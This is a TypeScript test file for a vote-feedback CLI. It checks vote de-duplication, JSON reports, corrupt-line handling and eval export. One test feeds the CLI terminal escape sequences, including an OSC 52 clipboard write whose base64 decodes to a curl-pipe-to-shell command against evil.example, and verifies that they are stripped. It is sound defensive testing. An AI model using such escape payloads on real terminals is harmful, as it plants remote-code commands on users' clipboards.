import { spawnSync } from "node:child_process";
import { appendFile, mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { missingFileMessage } from "../../src/cli/feedback.js";
import { FeedbackLog } from "../../src/feedback/feedback-log.js";
import type { VoteRecord } from "../../src/feedback/vote.js";

let dir: string;
let file: string;

function feedback(args: string[], votesFile = file) {
  const result = spawnSync("node", ["--import", "tsx", "src/cli/feedback.ts", ...args], {
    encoding: "utf8",
    env: { ...process.env, FEEDBACK_FILE: votesFile },
  });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "feedback-cli-"));
  file = join(dir, "data", "feedback.jsonl");
  const log = new FeedbackLog({ file, secret: "k" });
  const base = { channel: "C1", messageTs: "1.2", passages: ["https://example.org/a"] };
  const race = { answerId: "a1", question: "Who won the race?" };
  const venue = { answerId: "a2", question: "Where was it held?" };
  // U1 changes their mind on a1: the report counts their last vote only.
  const votes = [
    { ...race, vote: "up", userId: "U1" },
    { ...race, vote: "down", userId: "U1" },
    { ...race, vote: "down", userId: "U2" },
    { ...venue, vote: "up", userId: "U1" },
  ] as const;
  for (const vote of votes) await log.record({ ...base, ...vote });
  await appendFile(file, "{not json\n");
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe("feedback CLI", () => {
  it("prints the table of de-duplicated votes and reports the corrupt line", () => {
    const { status, stdout, stderr } = feedback([]);
    expect(status).toBe(0);
    expect(stdout).toContain("Answers  Up    Down\n      2     1     2");
    expect(stdout).toContain("   2     0  Who won the race?");
    expect(stderr).toContain(`${file}:5: skipped, not JSON`);
  });

  it("--json prints one JSON object: totals, questions and votes, a repeat vote counted once", () => {
    const { status, stdout } = feedback(["--json"]);
    expect(status).toBe(0);
    const report = JSON.parse(stdout);
    expect([report.answers, report.up, report.down]).toEqual([2, 1, 2]);
    expect(report.downVoted).toEqual([{ question: "Who won the race?", up: 0, down: 2 }]);
    expect(report.votes.map((v: VoteRecord) => [v.answerId, v.vote])).toEqual([
      ["a1", "down"],
      ["a1", "down"],
      ["a2", "up"],
    ]);
    const voters = report.votes.filter((v: VoteRecord) => v.answerId === "a1");
    expect(new Set(voters.map((v: VoteRecord) => v.voter)).size).toBe(2);
    expect(report.skippedLines).toEqual([{ line: 5, reason: "not JSON" }]);
    expect(stdout).not.toContain("U1");
  });

  it("--json prints an empty report, not nothing, when no vote has been cast", () => {
    const { status, stdout } = feedback(["--json"], join(dir, "nowhere.jsonl"));
    expect(status).toBe(0);
    expect(JSON.parse(stdout)).toMatchObject({ answers: 0, up: 0, down: 0, votes: [] });
  });

  it("prints no terminal escape sequence from a question, in the table or in JSON", async () => {
    const hostile = join(dir, "hostile.jsonl");
    const log = new FeedbackLog({ file: hostile, secret: "k" });
    const question = [
      "Why\u001b[2J\u001b[H",
      "\u001b]0;pwned\u0007",
      "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007",
      "\u009b31m",
      "it\u2028happen\u0085now?",
    ].join(" ");
    await log.record({
      channel: "C1",
      messageTs: "1.2",
      passages: [],
      answerId: "h1",
      question,
      vote: "down",
      userId: "U1",
    });
    const table = feedback([], hostile);
    expect(table.stdout).toContain(
      "Why[2J[H ]0;pwned ]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== 31m it happen now?",
    );
    const json = feedback(["--json"], hostile);
    for (const output of [table.stdout, json.stdout]) {
      expect(output).not.toMatch(/(?!\n)[\p{Cc}\u2028\u2029]/u);
    }
    expect(JSON.parse(json.stdout).votes[0].question).toBe(question);
  });
  it("--export-eval writes the down-voted questions in the eval's question format", async () => {
    const out = join(dir, "eval.json");
    const { status, stdout } = feedback(["--export-eval", out]);
    expect(status).toBe(0);
    expect(stdout).toContain(`wrote 1 down-voted question to ${out}`);
    expect(JSON.parse(await readFile(out, "utf8"))).toEqual([{ q: "Who won the race?", ev: "" }]);
  });

  it("says in one line that there are no votes when the file is missing", () => {
    const missing = join(dir, "nowhere.jsonl");
    const { status, stdout, stderr } = feedback([], missing);
    expect(status).toBe(0);
    expect(stdout).toBe("");
    expect(stderr.trim()).toBe(missingFileMessage(missing));
  });
});
